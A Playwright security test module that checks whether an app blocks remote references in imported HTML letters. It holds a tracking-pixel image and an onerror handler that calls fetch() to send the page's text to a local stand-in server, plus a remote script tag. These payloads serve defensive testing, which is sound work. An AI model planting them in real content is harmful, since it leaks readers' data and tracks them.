import { expect } from '@playwright/test';
import { CountingServer } from '../../fixtures/counting-server.ts';
import { importFiles } from '../../fixtures/journey.ts';
import type { Attack, Outcome } from '../attack.ts';
import { unsanitised } from '../mutations/unsanitised/mutation.ts';
import { rowOf, signUp } from '../person.ts';
import type { Stage } from '../stage.ts';

/** Opens a page of third-party HTML and looks whether anybody learnt of it. */
async function openHtml(
  stage: Stage,
  makeHtml: (origin: string) => string,
  gain: (asked: readonly string[]) => string | undefined,
): Promise<Outcome> {
  const stranger = await CountingServer.start();
  try {
    const { page } = await signUp(stage);
    const html = `<p>Dear customer</p>${makeHtml(stranger.origin)}`;
    const file = { name: 'letter.html', mimeType: 'text/html', buffer: Buffer.from(html) };
    await importFiles(page, file);
    await rowOf(page, 'letter.html').click({ timeout: 60_000 });
    const shown = page.frameLocator('iframe[title="Formatted message"]').getByText('Dear customer');
    await expect(shown).toBeVisible();
    // The stranger is on this machine: what is asked arrives at once.
    await page.waitForLoadState('networkidle');
    const told = await page.getByRole('article').innerText();
    return { gained: gain(stranger.asked), told };
  } finally {
    await stranger.stop();
  }
}

const loadPicture = (stage: Stage) =>
  openHtml(
    stage,
    (origin) => `<img src="${origin}/opened?by=victim" alt="">`,
    (asked) => asked.find((path) => path.startsWith('opened')),
  );

/** What a script can read, it can send away: here the words of the letter itself. */
const runScript = (stage: Stage) =>
  openHtml(
    stage,
    (origin) =>
      `<img src="${origin}/missing.png" alt="" onerror="fetch('${origin}/read?'+document.body.innerText)"><script src="${origin}/code.js"></script>`,
    (asked) => asked.find((path) => path.startsWith('read?Dear')),
  );

export const activeHtml: Attack = {
  row: 'F1',
  what: 'puts a URL, image or script into third-party content',
  mutation: unsanitised,
  attempts: [
    { name: 'a picture that tells who reads', refusal: /1 remote reference blocked/, run: loadPicture },
    { name: 'a script that sends away what it reads', refusal: /remote references blocked/, run: runScript },
  ],
};
